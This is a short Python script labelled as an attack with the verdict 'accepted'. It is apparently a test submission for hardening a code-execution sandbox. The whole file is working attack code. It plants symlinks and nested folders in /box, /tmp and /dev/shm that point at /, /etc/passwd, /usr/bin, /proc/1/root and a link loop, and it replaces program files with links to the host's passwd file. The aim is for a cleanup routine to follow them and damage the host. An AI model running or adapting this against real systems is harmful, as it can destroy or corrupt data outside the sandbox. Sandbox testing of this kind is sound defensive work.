# Attack: replaces all it owns by links to files of the host and to the zygote's, so that whoever cleans up follows them.
# Verdict: accepted
import os, shutil

TARGETS = ['/etc/passwd', '/', '/usr/bin', '/proc/1/root', '/proc/1/cwd', '/proc/self/fd/0', '../../../../etc', '/dev/full', 'loop']
for folder in ['/box', '/tmp', '/dev/shm']:
    for number, target in enumerate(TARGETS):
        os.symlink(target, f'{folder}/link{number}')
        os.makedirs(f'{folder}/folder{number}/inner')
        os.symlink(target, f'{folder}/folder{number}/inner/link')
    os.symlink('loop', f'{folder}/loop')
for name in ['main.py', 'main', 'a.out']:
    if os.path.lexists(name):
        os.remove(name)
    os.symlink('/proc/1/root/etc/passwd', name)
for folder in ['/box', '/tmp', '/dev/shm']:
    try:
        os.rmdir(folder)
        os.symlink('/etc', folder)
    except OSError:
        pass
print('unharmed', input())
